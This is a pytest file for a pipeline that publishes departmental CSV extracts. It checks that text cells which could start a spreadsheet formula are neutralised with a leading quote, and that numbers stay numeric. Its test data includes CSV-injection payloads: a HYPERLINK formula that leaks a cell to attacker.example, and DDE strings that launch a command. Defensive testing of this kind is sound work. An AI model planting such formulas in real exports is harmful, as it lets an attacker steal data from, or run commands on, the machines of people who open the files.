"""CSV for spreadsheets: a cell that would be a formula is text, numbers stay numbers, Excel reads UTF-8."""

from __future__ import annotations

import duckdb
import pytest

from pipelines.lib.publish.extracts import publish_department
from pipelines.lib.publish.spreadsheet_csv import BOM, FORMULA_PREFIXES, neutralised_select
from tests.publish.helpers import TEST_KEY, csv_records, csv_rows, files_of, read_arrow

PLANTED = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "成都市=锦江区 (an equals sign inside is harmless)",
]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("'=1", "'=1"),
        ("", ""),
        ("张三", "张三"),
    ],
)
def test_a_text_cell_that_starts_a_formula_is_written_as_text(value: str, written: str) -> None:
    query = neutralised_select(
        "SELECT $value AS cell, 1 AS n", [("cell", "VARCHAR"), ("n", "INTEGER")]
    )
    assert duckdb.execute(query, {"value": value}).fetchall() == [(written, 1)]


def test_formula_cells_are_neutralised_in_the_published_csv(city_copy, policy, contracts) -> None:
    connection = duckdb.connect(str(city_copy.analytics))
    keys = [
        k
        for (k,) in connection.execute(
            "SELECT organisation_key FROM dim_organisation ORDER BY organisation_key LIMIT $n",
            {"n": len(PLANTED)},
        ).fetchall()
    ]
    for key, name in zip(keys, PLANTED, strict=True):
        connection.execute(
            "UPDATE dim_organisation SET name = $name WHERE organisation_key = $key",
            {"name": name, "key": key},
        )
    connection.close()

    grant = policy.departments["market_regulation"]
    assert grant.csv
    folder = publish_department(city_copy, policy, grant, contracts, key=TEST_KEY).folder
    path = folder / "dim_organisation" / "dim_organisation.csv"
    raw = path.read_bytes()
    assert raw.startswith(BOM)
    names = {row["organisation_key"]: row["name"] for row in csv_records(path)}
    for key, name in zip(keys, PLANTED, strict=True):
        assert names[key] == ("'" + name if name.startswith(FORMULA_PREFIXES) else name)
    # No text cell of any CSV of the extract starts a formula.
    for table_csv in (f for f in files_of(folder) if f.suffix == ".csv"):
        for row in csv_rows(table_csv):
            assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), table_csv
    # Every field is quoted, so an embedded quote or comma cannot open a new cell.
    first_data_line = raw[len(BOM) :].split(b"\n")[1]
    assert first_data_line.startswith(b'"')
    # The Parquet files keep the text as it is: only spreadsheets need the quote.
    parquet = read_arrow(folder / "dim_organisation" / "dim_organisation.parquet").to_pylist()
    assert {
        r["organisation_key"]: r["name"] for r in parquet if r["organisation_key"] in keys
    } == dict(zip(keys, PLANTED, strict=True))


def test_numbers_stay_numbers(city_copy, policy, contracts) -> None:
    connection = duckdb.connect(str(city_copy.analytics))
    # A negative number cannot hold a formula; it must not become text.
    connection.execute(
        "UPDATE dim_place SET longitude = -longitude "
        "WHERE place_key = (SELECT min(place_key) FROM dim_place WHERE longitude IS NOT NULL)"
    )
    connection.close()
    folder = publish_department(
        city_copy, policy, policy.departments["market_regulation"], contracts, key=TEST_KEY
    ).folder
    longitudes = [row["longitude"] for row in csv_records(folder / "dim_place" / "dim_place.csv")]
    negative = [v for v in longitudes if v.startswith("-")]
    assert len(negative) == 1 and float(negative[0]) < 0
